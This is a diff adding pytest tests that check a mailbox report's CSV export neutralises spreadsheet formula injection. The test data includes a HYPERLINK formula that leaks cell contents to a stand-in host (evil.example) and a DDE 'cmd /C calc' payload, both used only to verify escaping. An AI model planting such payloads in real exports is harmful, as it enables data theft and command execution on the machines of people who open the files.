@@ -49,3 +49,25 @@ def test_report_csv_round_trips(tmp_path: Path) -> None:
     with (tmp_path / "r.csv").open(encoding="utf-8-sig") as fh:
         got = list(csv.DictReader(fh))
     assert got[0]["Status"] == "failed" and got[0]["Message"] == "Ex1|boom, \"q\"" and got[0]["Side"] == "online"
+
+
+@pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
+                                     "@SUM(1+1)", "-2+3", "\t=1+1", "\r=1+1", "  =1+1", "\0=1"])
+def test_report_csv_neutralises_formulas(tmp_path: Path, payload: str) -> None:
+    rows = [Outcome(payload, "onprem", OutcomeStatus.FAILED, "a@x", "UserMailbox", False, "", payload, payload)]
+    write_report(tmp_path / "r.csv", rows)
+    raw = (tmp_path / "r.csv").read_bytes().decode("utf-8-sig")
+    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as fh:
+        got = next(csv.DictReader(fh))
+    for column in ("Mailbox", "LitigationHoldOwner", "Message"):
+        assert got[column] == "'" + payload, column  # the text survives, behind Excel's "this is text" mark
+    assert '"' + "'" in raw  # every field quoted (RFC 4180), so no separator in the data starts a new cell
+
+
+def test_report_csv_leaves_plain_text_alone(tmp_path: Path) -> None:
+    rows = [Outcome("ann@contoso.com", "online", OutcomeStatus.ENABLED, "ann@contoso.com", "UserMailbox", True,
+                    "2555", "Legal - case 7", "a=b")]
+    write_report(tmp_path / "r.csv", rows)
+    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as fh:
+        got = next(csv.DictReader(fh))
+    assert (got["Mailbox"], got["LitigationHoldOwner"], got["Message"]) == ("ann@contoso.com", "Legal - case 7", "a=b")
